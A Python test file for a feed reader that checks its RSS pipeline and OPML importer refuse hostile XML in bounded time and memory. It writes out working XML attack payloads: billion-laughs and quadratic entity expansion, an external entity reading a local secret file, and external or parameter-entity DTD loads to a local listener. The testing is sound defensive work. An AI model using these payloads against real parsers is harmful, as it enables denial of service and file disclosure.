"""Hostile XML through the whole pipeline and the OPML reader: refused in bounded time and memory, no file
read, no connection opened, one clear line on the source's health."""

from __future__ import annotations

import socket
import time
import tracemalloc
from pathlib import Path

import pytest

from akhbar.pipeline import refresh_source
from akhbar.sources import SourceFileError, read_sources_file

LOL = "".join(f' <!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10))
BILLION_LAUGHS = f'<?xml version="1.0"?><!DOCTYPE rss [ <!ENTITY lol0 "lol">{LOL}]>' + (
    "<rss version='2.0'><channel><title>&lol9;</title><item><guid>1</guid></item></channel></rss>"
)
LAUGHS_OPML = BILLION_LAUGHS.split("?>", 1)[1].split("<rss")[0].replace("DOCTYPE rss", "DOCTYPE opml")
QUADRATIC = (
    f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "{"A" * 50_000}">]>'
    f"<rss version='2.0'><channel><title>{'&a;' * 50_000}</title></channel></rss>"
)


def attacks(secret: Path, listener: str) -> dict[str, str]:
    """Return hostile documents by name; each names a file holding a secret and a listener to call."""
    return {
        "billion-laughs": BILLION_LAUGHS,
        "quadratic": QUADRATIC,
        "external-file-entity": (
            f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'
            "<rss version='2.0'><channel><title>&x;</title><item><title>&x;</title></item></channel></rss>"
        ),
        "external-http-entity": (
            f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "{listener}/x.txt">]>'
            "<rss version='2.0'><channel><title>&x;</title><item><title>&x;</title></item></channel></rss>"
        ),
        "parameter-entity-dtd": (
            f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % d SYSTEM "{listener}/evil.dtd"> %d;]>'
            "<rss version='2.0'><channel><title>&leak;</title></channel></rss>"
        ),
    }


@pytest.mark.parametrize(
    "name",
    ["billion-laughs", "quadratic", "external-file-entity", "external-http-entity", "parameter-entity-dtd"],
)
async def test_hostile_feed_is_refused_end_to_end(name, tmp_path, servers, kit, store, context) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-LINE")
    listener = await servers()  # counts connections; nothing may ever reach it
    document = attacks(secret, listener.url)[name]
    feed = await servers(kit.fixed(document, headers={"Content-Type": "application/rss+xml"}))
    source_id = kit.add_source(store, f"{feed.url}/rss.xml")
    tracemalloc.start()
    started = time.monotonic()
    report = await refresh_source(store.source_by_id(source_id), context)
    elapsed = time.monotonic() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    health = store.source_by_id(source_id)
    assert not report.ok
    assert "refused" in report.error and "\n" not in report.error
    assert health.last_error == report.error
    assert "TOP-SECRET" not in health.last_error
    assert listener.connections == 0
    assert store.count_articles() == 0
    assert elapsed < 10  # a bound, not a benchmark: an expansion of these documents takes minutes
    assert peak < 64 * 1024 * 1024


@pytest.mark.parametrize("size", [2_000, 700_000])  # below and above the engine switch of parse_feed
async def test_external_dtd_is_neither_fetched_nor_read(size, tmp_path, servers, kit, store, context) -> None:
    listener = await servers()
    filler = "".join(
        f"<item><guid>n{n}</guid><title>Titre {n} {'x' * 60}</title></item>" for n in range(size // 100)
    )
    document = (
        f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{listener.url}/rss.dtd">'
        f"<rss version='2.0'><channel><title>Safe &leak;</title>{filler}</channel></rss>"
    )
    feed = await servers(kit.fixed(document))
    source_id = kit.add_source(store, f"{feed.url}/rss.xml")
    report = await refresh_source(store.source_by_id(source_id), context)
    assert listener.connections == 0
    assert report.ok or ("\n" not in report.error and report.error)


@pytest.mark.parametrize("attack", ["billion-laughs", "quadratic", "external-file-entity", "external-http"])
def test_hostile_opml_is_refused(attack: str, tmp_path: Path) -> None:
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-LINE")
    outline = '<body><outline text="&x;" xmlUrl="https://example.org/feed"/></body>'
    prologs = {
        "billion-laughs": BILLION_LAUGHS.split("?>", 1)[1]
        .split("<rss")[0]
        .replace("DOCTYPE rss", "DOCTYPE opml"),
        "quadratic": f'<!DOCTYPE opml [<!ENTITY a "{"A" * 50_000}">]>',
        "external-file-entity": f'<!DOCTYPE opml [<!ENTITY x SYSTEM "{secret.as_uri()}">]>',
        "external-http": f'<!DOCTYPE opml [<!ENTITY x SYSTEM "http://127.0.0.1:{listener.getsockname()[1]}/x">]>',
    }
    path = tmp_path / "subscriptions.opml"
    path.write_text(f'<?xml version="1.0"?>{prologs[attack]}<opml version="2.0">{outline}</opml>')
    started = time.monotonic()
    with pytest.raises(SourceFileError) as caught:
        read_sources_file(path)
    assert time.monotonic() - started < 10
    message = str(caught.value)
    with pytest.raises(BlockingIOError):
        listener.accept()  # nobody connected
    listener.close()
    assert "refused" in message and "\n" not in message and "TOP-SECRET" not in message
